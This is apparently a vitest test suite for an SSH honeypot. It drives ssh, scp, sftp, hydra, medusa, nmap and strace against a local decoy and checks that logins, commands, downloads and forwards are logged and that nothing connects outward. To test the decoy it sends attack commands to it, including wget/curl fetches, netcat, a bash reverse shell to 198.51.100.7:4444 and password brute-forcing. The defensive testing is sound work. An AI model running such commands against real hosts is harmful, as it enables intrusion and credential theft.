/** The SSH decoy with the programs that people and attackers use, from Debian's packages. Each is skipped where it is not installed. */
import { type ExecFileException, execFile, spawn, spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { chmodSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { getJson, type Json, send } from '../contract/client.ts';
import { freePorts, type Program, removeFolder, startProgram, waitFor } from '../program.ts';

vi.setConfig({ testTimeout: 120_000 });

const has = (program: string): boolean => spawnSync('which', [program]).status === 0;
const missing = (...programs: string[]): boolean => {
  const absent = programs.filter((program) => !has(program));
  if (absent.length > 0) console.warn(`Skipped: ${absent.join(', ')} is not installed.`);
  return absent.length > 0;
};

const folder = mkdtempSync(join(tmpdir(), 'phosor-decoy-'));
const askpass = join(folder, 'askpass');
const password = 'S3cret-of-a-decoy';
let program: Program;
let port = 0;

interface Ran {
  status: number;
  stdout: string;
  stderr: string;
}

const run = (command: string, args: string[], input = '', tried = password): Promise<Ran> =>
  new Promise((resolve) => {
    const env = { ...process.env, SSH_ASKPASS: askpass, SSH_ASKPASS_REQUIRE: 'force', DECOY_PASSWORD: tried };
    const child = execFile(
      command,
      args,
      { env, timeout: 60_000, cwd: folder },
      (error: ExecFileException | null, stdout, stderr) =>
        resolve({ status: error === null ? 0 : typeof error.code === 'number' ? error.code : -1, stdout, stderr }),
    );
    child.stdin?.end(input);
  });

const quiet = ['StrictHostKeyChecking=no', 'UserKnownHostsFile=/dev/null', 'LogLevel=ERROR'].flatMap((o) => ['-o', o]);
const byPassword = [
  ...quiet,
  '-o',
  'PreferredAuthentications=password',
  '-o',
  'NumberOfPasswordPrompts=1',
  '-F',
  'none',
];
const ssh = (...args: string[]): Promise<Ran> =>
  run('ssh', [...byPassword, '-p', String(port), 'root@127.0.0.1', ...args]);

const eventsOf = async (query: string): Promise<Json[]> => {
  const { events } = await getJson(program, `/api/events?limit=500&${query}`);
  return events;
};
const waitForEvent = (query: string, test: (event: Json) => boolean = () => true): Promise<Json> =>
  waitFor(`an event of ${query}`, async () => (await eventsOf(query)).find(test));

beforeAll(async () => {
  writeFileSync(askpass, '#!/bin/sh\nprintf "%s\\n" "$DECOY_PASSWORD"\n');
  chmodSync(askpass, 0o755);
  [port] = (await freePorts(1)) as [number];
  program = await startProgram({ env: { PHOSOR_DECOY_HOST: '127.0.0.1', PHOSOR_DECOY_SSH_PORT: String(port) } });
  const answer = await send(program, 'PUT', '/api/decoys/ssh', {
    options: { accept: 'list', accounts: [`root:${password}`], failureDelayMs: 100 },
  });
  expect(answer.status).toBe(200);
}, 120_000);
afterAll(async () => {
  await program?.stop();
  removeFolder(folder);
}, 60_000);

describe.skipIf(missing('ssh', 'scp', 'sftp'))('OpenSSH', () => {
  test('N-005, N-020: the banner, and a login with its name and address in the store', async () => {
    const status = await getJson(program, '/api/honeypots/status');
    const own = status.find(({ name }: Json) => name === 'SSH');
    expect(Object.keys(own)).toEqual(expect.arrayContaining(['name', 'port', 'status', 'last_seen']));
    expect(own).toMatchObject({ port, status: 'active' });
    expect((await fetch(`${program.address}/api/honeypots/status`)).status).toBe(401);

    const refused = await run('ssh', [...byPassword, '-p', String(port), 'oracle@127.0.0.1', 'id'], '', 'wrong-one');
    expect(refused.status).toBe(255);
    expect(refused.stderr).toContain('Permission denied (publickey,password).');
    const event = await waitForEvent('event_type=decoy.login&user=oracle');
    expect(event).toMatchObject({
      source: 'decoy_ssh',
      source_type: 'decoy',
      src_ip: '127.0.0.1',
      dst_port: port,
      protocol: 'ssh',
      outcome: 'failure',
      fields: { method: 'password', password: 'w*******e', password_length: 9 },
    });
    expect(JSON.stringify(event)).not.toContain('wrong-one');
    const client = await waitForEvent('event_type=decoy.client');
    expect(client.fields.client).toMatch(/^SSH-2\.0-OpenSSH_/);
    expect(client.fields.hassh).toMatch(/^[0-9a-f]{32}$/);
    const { credentials } = await waitFor('the password', async () => {
      const tried = await getJson(program, '/api/decoys/credentials');
      return tried.credentials.length > 0 ? tried : null;
    });
    expect(credentials).toContainEqual(expect.objectContaining({ user: 'oracle', password: 'wrong-one', accepted: 0 }));
  });

  test('a command runs in a shell that is none, and leads to an alert', async () => {
    const ran = await ssh('cat /etc/hostname; echo one two | wc -w; no-such-program; exit 7');
    expect(ran).toMatchObject({ status: 7, stderr: 'bash: line 1: no-such-program: command not found\n' });
    expect(ran.stdout).toMatch(/^[a-z0-9-]+\n2\n$/);
    const event = await waitForEvent('event_type=decoy.command', ({ fields }) => fields.exit_status === 7);
    expect(event).toMatchObject({ user: 'root', severity: 'high' });
    expect(event.fields).toMatchObject({ mode: 'exec', found: false, unknown: ['no-such-program'] });
    await waitFor('the alert', async () => {
      const alerts = await getJson(program, '/api/alerts?limit=50');
      return alerts.some(({ rule_name }: Json) => rule_name === 'Somebody is inside a decoy');
    });
  });

  test('what is to be fetched is written down and not fetched', async (context) => {
    const { status } = await ssh('command -v wget curl');
    if (status !== 0) context.skip('The shell has no wget and curl yet.');
    await ssh('wget http://198.51.100.7/x.sh -O /tmp/x; curl -s http://198.51.100.7/y');
    await waitForEvent('event_type=decoy.download', ({ fields }) => fields.url.includes('198.51.100.7/x.sh'));
    await waitForEvent('event_type=decoy.download', ({ fields }) => fields.url.includes('198.51.100.7/y'));
  });

  test('forwards are written down and refused', async () => {
    const onward = await ssh('-W', '198.51.100.25:25');
    expect(onward.status).not.toBe(0);
    expect(onward.stderr).toContain('forwarding failed');
    const forward = await waitForEvent('event_type=decoy.forward', ({ fields }) => fields.kind === 'direct-tcpip');
    expect(forward.fields).toMatchObject({ dst_host: '198.51.100.25', dst_port: 25 });
    await ssh('-R', '0:127.0.0.1:22', 'true');
    await waitForEvent('event_type=decoy.forward', ({ fields }) => fields.kind === 'tcpip-forward');
  });

  test('a terminal session can be replayed, with its commands as marks', async () => {
    const { status } = await run(
      'ssh',
      ['-tt', ...byPassword, '-p', String(port), 'root@127.0.0.1'],
      'echo a-mark-of-ours\rexit\r',
    );
    expect(status).toBe(0);
    const found = await waitFor('the visit', async () => {
      const { sessions } = await getJson(program, '/api/decoys/sessions?recorded=true');
      return sessions.find(({ ended_at, facts }: Json) => ended_at !== null && facts.term !== undefined);
    });
    const answer = await program.api(`/api/decoys/sessions/${found.id}/recordings/${found.recordings[0]}`);
    const [head, ...lines] = (await answer.text())
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(head).toMatchObject({ version: 2 });
    expect(lines.filter(([, kind]: Json) => kind === 'm').map(([, , text]: Json) => text)).toContain(
      'echo a-mark-of-ours',
    );
    expect(lines.map(([, , text]: Json) => text).join('')).toContain('a-mark-of-ours\r\n');
    const { session } = await getJson(program, `/api/decoys/sessions/${found.id}`);
    expect(session).toMatchObject({ user: 'root', commands: 2, decoy: 'ssh' });
  });

  test.each([
    ['scp', ['scp'], 'sftp'],
    ['scp -O', ['scp', '-O'], 'scp'],
  ])('%s brings files that are kept by their hash, and takes some away', async (_, [command = '', ...flags], via) => {
    const content = randomBytes(200_000);
    writeFileSync(join(folder, 'bring'), content);
    const sent = await run(command, [
      ...flags,
      ...byPassword,
      '-P',
      String(port),
      'bring',
      'root@127.0.0.1:/tmp/brought',
    ]);
    expect(sent).toMatchObject({ status: 0, stderr: '' });
    const sha256 = createHash('sha256').update(content).digest('hex');
    const event = await waitForEvent(`event_type=decoy.upload&q=${sha256}`);
    expect(event.fields).toMatchObject({
      file_name: '/tmp/brought',
      size: 200_000,
      via,
      truncated: false,
      complete: true,
    });
    const kept = await program.api(`/api/decoys/files/${sha256}`);
    expect(kept.headers.get('content-disposition')).toBe(`attachment; filename="${sha256}.bin"`);
    expect(Buffer.from(await kept.arrayBuffer()).equals(content)).toBe(true);
    const taken = await run(command, [
      ...flags,
      ...byPassword,
      '-P',
      String(port),
      'root@127.0.0.1:/etc/passwd',
      'taken',
    ]);
    expect(taken.status).toBe(0);
    expect(readFileSync(join(folder, 'taken'), 'utf8')).toMatch(/^root:x:0:0:root:\/root:\/bin\/bash\n/);
  });

  test('sftp lists, puts, moves and gets', async () => {
    writeFileSync(join(folder, 'note'), 'hello');
    const batch =
      'ls -l /etc/hostname\nput note /root/note\nrename /root/note /root/note2\nget /root/note2 back\nrm /root/note2\n';
    const ran = await run('sftp', [...byPassword, '-P', String(port), 'root@127.0.0.1'], batch);
    expect(ran.status).toBe(0);
    expect(ran.stdout).toMatch(/^-rw-r--r-- .* \/etc\/hostname$/m);
    expect(readFileSync(join(folder, 'back'), 'utf8')).toBe('hello');
    await waitForEvent('event_type=decoy.command', ({ fields }) => fields.command === 'mv /root/note /root/note2');
  });
});

test.skipIf(missing('hydra'))('hydra finds the one password among 61, and leaves its tries', async () => {
  const words = [...Array.from({ length: 60 }, (_, i) => `guess${i}`), password];
  writeFileSync(join(folder, 'words'), `${words.join('\n')}\n`);
  const args = ['-I', '-t', '16', '-l', 'root', '-P', 'words', '-s', String(port), 'ssh://127.0.0.1'];
  const { stdout } = await run('hydra', args);
  expect(stdout).toMatch(new RegExp(`login: root +password: ${password}`));
  const { credentials } = await waitFor('the tries', async () => {
    const tried = await getJson(program, '/api/decoys/credentials?limit=500');
    const own = tried.credentials.filter((each: Json) => each.password.startsWith('guess'));
    return own.length >= 50 ? tried : null;
  });
  expect(credentials.some((each: Json) => each.password === password && each.accepted > 0)).toBe(true);
});

test.skipIf(missing('medusa'))('medusa finds it, too', async () => {
  writeFileSync(join(folder, 'few'), `no1\nno2\n${password}\n`);
  const args = ['-h', '127.0.0.1', '-n', String(port), '-u', 'root', '-P', 'few', '-M', 'ssh', '-t', '2'];
  const { stdout } = await run('medusa', args);
  expect(stdout).toContain(`User: root Password: ${password} [SUCCESS]`);
});

test.skipIf(missing('nmap'))('nmap takes it for OpenSSH of Debian', async () => {
  const { stdout } = await run('nmap', ['-Pn', '-sV', '-p', String(port), '127.0.0.1']);
  expect(stdout).toMatch(/open +ssh +OpenSSH 9\.2p1 Debian \S+ \(protocol 2\.0\)/);
});

test.skipIf(missing('strace', 'ssh'))('a hostile visit makes the process connect to nothing', async (context) => {
  const { process: at } = await getJson(program, '/api/decoys');
  expect(at.isolation).toMatchObject({ permission: true, guarded: true });
  const trace = join(folder, 'trace');
  const strace = spawn('strace', ['-f', '-e', 'trace=connect,sendto,execve', '-o', trace, '-p', String(at.pid)], {
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  let said = '';
  strace.stderr.setEncoding('utf8').on('data', (text: string) => {
    said += text;
  });
  const attached = await waitFor('strace', async () => said.includes('attached') || strace.exitCode !== null);
  if (!attached || strace.exitCode !== null) {
    context.skip(`strace may not look at the process here: ${said}`);
    return;
  }
  await ssh(
    'wget http://127.0.0.1:80/x; curl http://198.51.100.7/; nc 198.51.100.7 4444; ping -c1 198.51.100.7; tftp 198.51.100.7',
  );
  await ssh('echo x > /dev/tcp/198.51.100.7/80; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1');
  await ssh('-W', '127.0.0.1:22');
  strace.kill('SIGINT');
  await new Promise((resolve) => strace.on('exit', resolve));
  const calls = readFileSync(trace, 'utf8');
  expect(calls).not.toMatch(/AF_INET|AF_INET6|execve\(/);
});
